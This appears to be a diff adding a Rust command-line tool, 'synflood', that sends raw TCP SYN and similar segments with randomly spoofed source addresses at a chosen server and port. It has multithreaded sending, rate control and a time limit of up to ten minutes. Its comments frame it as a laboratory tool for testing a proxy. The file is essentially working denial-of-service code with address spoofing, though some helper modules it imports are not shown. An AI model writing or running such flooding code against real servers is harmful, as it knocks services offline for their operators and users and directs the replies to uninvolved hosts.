@@ -1,0 +1,182 @@
+//! `synflood`: attacks a server from sources that do not exist, for a bounded time, to see what the proxy does.
+//! For one's own laboratory; it refuses to guess an interface.
+
+use std::io;
+use std::net::IpAddr;
+use std::process::ExitCode;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::thread;
+use std::time::{Duration, Instant};
+
+use crate::flood_template::{FloodTemplate, Kind, Mac, Sources, Target};
+use crate::interface::{neighbour, parse_mac};
+use crate::raw::Sender;
+use clap::Parser;
+use rand::SeedableRng;
+use rand::rngs::SmallRng;
+
+/// Frames a system call; more gains nothing.
+const BATCH: u64 = 64;
+
+/// Floods a server with TCP segments from random sources that do not exist. For laboratories: the answers go to strangers.
+#[derive(Parser, Debug)]
+#[command(name = "synflood", version)]
+pub(crate) struct Arguments {
+    /// The interface the flood leaves by; never guessed.
+    #[arg(short, long)]
+    interface: String,
+    /// The address attacked; its family is the flood's.
+    #[arg(long)]
+    to: IpAddr,
+    /// The port attacked.
+    #[arg(long, default_value_t = 80)]
+    port: u16,
+    /// The Ethernet destination; for an IPv4 neighbour the ARP table knows it.
+    #[arg(long, value_parser = parse_mac)]
+    to_mac: Option<Mac>,
+    /// The Ethernet source, to which the answers go; without it, the interface's own.
+    #[arg(long, value_parser = parse_mac)]
+    from_mac: Option<Mac>,
+    /// What the flood consists of.
+    #[arg(long, value_enum, default_value_t = Kind::Syn)]
+    kind: Kind,
+    /// The network the sources claim to be in, as 192.0.2.0/24; without it, the whole Internet.
+    #[arg(long)]
+    from: Option<Sources>,
+    /// SYNs without options, 60 bytes on the wire.
+    #[arg(long)]
+    bare: bool,
+    /// Segments a second, all threads together; without it, as fast as the kernel takes them.
+    #[arg(long, value_parser = clap::value_parser!(u64).range(1..))]
+    rate: Option<u64>,
+    /// How long.
+    #[arg(long, default_value_t = 5, value_parser = clap::value_parser!(u64).range(1..=600))]
+    seconds: u64,
+    /// Threads that send.
+    #[arg(long, default_value_t = 1, value_parser = clap::value_parser!(u64).range(1..=64))]
+    threads: u64,
+    /// Where chance begins: the same seed makes the same flood.
+    #[arg(long)]
+    seed: Option<u64>,
+}
+
+/// What one thread achieved.
+#[derive(Clone, Copy, Default)]
+struct Tally {
+    sent: u64,
+    /// Times the device had no room.
+    full: u64,
+}
+
+/// Parses the command line and runs the program.
+pub fn main() -> ExitCode {
+    match run(&Arguments::parse()) {
+        Ok(()) => ExitCode::SUCCESS,
+        Err(complaint) => {
+            eprintln!("synflood: {complaint}");
+            ExitCode::FAILURE
+        }
+    }
+}
+
+fn run(arguments: &Arguments) -> Result<(), String> {
+    let interface = &arguments.interface;
+    let sources = arguments.from.unwrap_or(match arguments.to {
+        IpAddr::V4(_) => Sources::ANY_V4,
+        IpAddr::V6(_) => Sources::ANY_V6,
+    });
+    if sources.is_ipv4() != arguments.to.is_ipv4() {
+        return Err("--from and --to are of different address families".into());
+    }
+    let open = || Sender::open(interface).map_err(|error| complaint(interface, &error));
+    let own_mac = open()?.mac(interface).map_err(|error| complaint(interface, &error))?;
+    let target = Target {
+        address: arguments.to,
+        port: arguments.port,
+        mac: arguments.to_mac.or_else(|| neighbour(arguments.to, interface)).ok_or_else(|| {
+            format!("no neighbour entry for {} on {interface}; ping it first or give --to-mac", arguments.to)
+        })?,
+        from_mac: arguments.from_mac.unwrap_or(own_mac),
+        vlan: None,
+    };
+    let senders = (0..arguments.threads).map(|_| open()).collect::<Result<Vec<_>, _>>()?;
+
+    let stop = Arc::new(AtomicBool::new(false));
+    let on_signal = Arc::clone(&stop);
+    ctrlc::set_handler(move || on_signal.store(true, Ordering::Relaxed)).map_err(|error| error.to_string())?;
+
+    let seed = arguments.seed.unwrap_or_else(rand::random);
+    let start = Instant::now();
+    let end = start + Duration::from_secs(arguments.seconds);
+    let rate = arguments.rate.map(|rate| rate as f64 / arguments.threads as f64);
+    let tallies = thread::scope(|scope| {
+        let threads: Vec<_> = (0u64..)
+            .zip(&senders)
+            .map(|(number, sender)| {
+                let rng = SmallRng::seed_from_u64(seed ^ number.wrapping_mul(0x9e37_79b9_7f4a_7c15));
+                let template = FloodTemplate::new(arguments.kind, target, sources, arguments.bare, rng);
+                let stop = &stop;
+                scope.spawn(move || flood(sender, template, rate, start, end, stop))
+            })
+            .collect();
+        threads
+            .into_iter()
+            .map(|thread| thread.join().expect("a sender does not panic"))
+            .collect::<io::Result<Vec<_>>>()
+    })
+    .map_err(|error| complaint(interface, &error))?;
+
+    let sent: u64 = tallies.iter().map(|tally| tally.sent).sum();
+    let full: u64 = tallies.iter().map(|tally| tally.full).sum();
+    let seconds = start.elapsed().as_secs_f64();
+    println!("sent={sent} seconds={seconds:.3} kpps={:.1} device-full={full}", sent as f64 / seconds / 1e3);
+    Ok(())
+}
+
+/// Sends until `end`, a signal or an error; at `rate` segments a second if there is one.
+fn flood(
+    sender: &Sender,
+    mut template: FloodTemplate,
+    rate: Option<f64>,
+    start: Instant,
+    end: Instant,
+    stop: &AtomicBool,
+) -> io::Result<Tally> {
+    let len = template.frame_len();
+    let mut frames = vec![0; len * BATCH as usize];
+    let mut tally = Tally::default();
+    loop {
+        let now = Instant::now();
+        if now >= end || stop.load(Ordering::Relaxed) {
+            return Ok(tally);
+        }
+        let due = rate.map_or(BATCH, |rate| {
+            let scheduled = ((now - start).as_secs_f64() * rate) as u64;
+            scheduled.saturating_sub(tally.sent).min(BATCH)
+        });
+        if due == 0 {
+            thread::sleep(Duration::from_micros(200));
+            continue;
+        }
+        let batch = &mut frames[..len * due as usize];
+        batch.chunks_exact_mut(len).for_each(|frame| template.stamp(frame));
+        match sender.send(batch, len)? {
+            0 => {
+                tally.full += 1;
+                thread::yield_now();
+            }
+            sent => tally.sent += sent as u64,
+        }
+    }
+}
+
+/// One line that says what is wrong and what to do.
+fn complaint(interface: &str, error: &io::Error) -> String {
+    match error.raw_os_error() {
+        Some(libc::EPERM | libc::EACCES) => "raw sockets need root or CAP_NET_RAW".into(),
+        Some(libc::ENODEV | libc::ENXIO) => format!("there is no interface `{interface}`"),
+        Some(libc::ENETDOWN) => format!("`{interface}` is down; ip link set {interface} up"),
+        _ => format!("{interface}: {error}"),
+    }
+}
